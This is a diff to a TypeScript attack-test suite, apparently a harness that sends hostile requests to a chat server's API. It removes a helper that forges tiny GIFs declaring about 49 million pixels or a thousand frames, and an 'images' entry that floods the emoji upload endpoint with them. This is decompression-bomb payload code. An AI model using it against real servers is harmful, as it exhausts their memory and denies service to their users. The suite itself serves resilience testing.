@@ -30,12 +30,6 @@ function trickle(attacker: Attacker, socket: Socket, text: string): void {
   }, 100)
 }
 
-/** A square GIF of so many pixels each side and frames of one pixel; all ASCII. */
-function gif(side: number, frames: number): string {
-  const size = String.fromCharCode(side % 256, side >> 8)
-  return `GIF89a${size}${size}\0\0\0${',\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0'.repeat(frames)};`
-}
-
 export const requestAttacks: readonly Attack[] = [
   {
     id: 'F4',
@@ -201,18 +195,6 @@ export const requestAttacks: readonly Attack[] = [
           op: 'add',
           flag: 'read',
         },
-      })),
-  },
-  {
-    id: 'images',
-    what: 'pictures of 49 million pixels in a few bytes, and of a thousand frames, by who may add emoji',
-    run: (attacker) =>
-      flood(attacker, 4, (turn) => ({
-        method: 'POST',
-        path: `/api/v1/realm/emoji/attack_${turn}`,
-        authorization: attacker.groups.manager,
-        headers: { 'Content-Type': 'multipart/form-data; boundary=b' },
-        body: `--b\r\nContent-Disposition: form-data; name="file"; filename="x.gif"\r\n\r\n${turn % 2 === 0 ? gif(7000, 1) : gif(112, 1000)}\r\n--b--\r\n`,
       })),
   },
   {
